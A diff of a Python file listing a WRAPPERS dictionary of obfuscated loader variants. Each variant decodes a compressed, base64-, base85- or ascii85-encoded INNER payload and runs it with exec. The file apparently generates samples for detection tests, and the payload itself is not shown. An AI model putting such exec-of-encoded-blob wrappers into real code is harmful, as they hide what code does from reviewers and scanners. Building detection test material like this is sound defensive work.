@@ -37,7 +37,7 @@ WRAPPERS = {
     "raw LZMA": raw_lzma(INNER),
     "bytes": f"import lzma,base64;exec({LZMA_CALL})",
     "compiled": f"import lzma,base64\nexec(compile({LZMA_CALL},'t.py','exec'),globals())",
-    "decoded, zlib": f"import zlib,base64 as b\nP={zlib64(INNER)!r}\nexec(zlib.decompress(b.b64decode(P)).decode('utf-8'))",
+    "decoded": f"import zlib,base64 as b\nP={zlib64(INNER)!r}\nexec(zlib.decompress(b.b64decode(P)).decode('utf8'))",
     "imported in place": f"exec(__import__('zlib').decompress(__import__('base64').b64decode({zlib64(INNER)!r})))",
     "by name": f"from lzma import decompress as d\nfrom base64 import b85decode as b\nexec(d(b({base85(INNER)!r})))",
     "bz2": f"import bz2,base64\nexec(bz2.decompress(base64.a85decode({base64.a85encode(bz2.compress(INNER))!r})))",
